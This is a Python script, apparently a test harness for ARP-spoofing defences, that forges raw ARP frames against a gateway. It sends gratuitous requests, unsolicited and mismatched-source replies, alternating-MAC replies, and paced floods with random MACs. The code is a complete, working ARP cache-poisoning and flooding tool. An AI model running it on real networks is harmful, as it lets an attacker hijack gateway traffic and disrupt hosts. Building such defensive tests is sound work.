#!/usr/bin/python3
"""Crafted ARP frames against a next hop, sent raw from an interface (run inside the network
namespace that holds it): the spoofs an attacker on the segment can send, and bounded floods of
them with random MACs. Ethernet sources are forged as each frame needs.

Usage: neighbor_frames.py spoofs IFACE BERTH_MAC BERTH_IP GATEWAY_IP
       neighbor_frames.py flood IFACE BERTH_MAC BERTH_IP GATEWAY_IP COUNT SECONDS mixed|gratuitous
Prints one JSON line: how many frames went out and over how many seconds.
"""
import json
import os
import socket
import struct
import sys
import time

BROADCAST = b"\xff" * 6
NOBODY = b"\x00" * 6
ATTACKER = bytes.fromhex("020000000bad")
RELAY = bytes.fromhex("020000000c01")


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return socket.inet_aton(text)


def arp(opcode, ethernet_source, ethernet_destination, sender_mac, sender, target_mac, target):
    frame = (ethernet_destination + ethernet_source + b"\x08\x06" +
             struct.pack("!HHBBH", 1, 0x0800, 6, 4, opcode) +
             sender_mac + sender + target_mac + target)
    return frame + b"\x00" * (60 - len(frame))


def random_mac():
    # Unicast and locally administered, like any MAC an attacker makes up.
    return bytes([0x02]) + os.urandom(5)


def spoofs(berth_mac, berth, gateway):
    """The four spoofs, then 1,000 replies alternating two MACs for the gateway."""
    other_host = ip("198.18.0.77")
    frames = [
        # An unsolicited reply.
        arp(2, ATTACKER, berth_mac, ATTACKER, gateway, berth_mac, berth),
        # A reply whose Ethernet source is not its sender MAC.
        arp(2, RELAY, berth_mac, ATTACKER, gateway, berth_mac, berth),
        # A gratuitous request.
        arp(1, ATTACKER, BROADCAST, ATTACKER, gateway, NOBODY, gateway),
        # A request about another host carrying the gateway's address as its sender.
        arp(1, ATTACKER, BROADCAST, ATTACKER, gateway, NOBODY, other_host),
    ]
    second = bytes.fromhex("020000000bae")
    for i in range(1000):
        alternate = ATTACKER if i % 2 == 0 else second
        frames.append(arp(2, alternate, berth_mac, alternate, gateway, berth_mac, berth))
    return frames


def flood(berth_mac, berth, gateway, count, kind):
    frames = []
    for i in range(count):
        forged = random_mac()
        if kind == "gratuitous" or i % 4 == 0:
            frames.append(arp(1, forged, BROADCAST, forged, gateway, NOBODY, gateway))
        elif i % 4 == 1:
            frames.append(arp(2, forged, berth_mac, forged, gateway, berth_mac, berth))
        elif i % 4 == 2:
            frames.append(arp(2, random_mac(), berth_mac, forged, gateway, berth_mac, berth))
        else:
            frames.append(arp(1, forged, BROADCAST, forged, gateway, NOBODY, ip("198.18.0.77")))
    return frames


def send(iface, frames, seconds):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    start = time.monotonic()
    chunk = 100
    for at in range(0, len(frames), chunk):
        for frame in frames[at:at + chunk]:
            sock.send(frame)
        # Paced over `seconds`, so that the flood lasts long enough to test rates against.
        due = start + seconds * (at + chunk) / len(frames)
        pause = due - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    return time.monotonic() - start


def main(argv):
    scenario, iface, berth_mac, berth, gateway = argv[1:6]
    berth_mac, berth, gateway = mac(berth_mac), ip(berth), ip(gateway)
    if scenario == "spoofs":
        frames = spoofs(berth_mac, berth, gateway)
        seconds = 0.5
    else:
        count, seconds, kind = int(argv[6]), float(argv[7]), argv[8]
        frames = flood(berth_mac, berth, gateway, count, kind)
    took = send(iface, frames, seconds)
    print(json.dumps({"frames": len(frames), "seconds": took}))


if __name__ == "__main__":
    main(sys.argv)
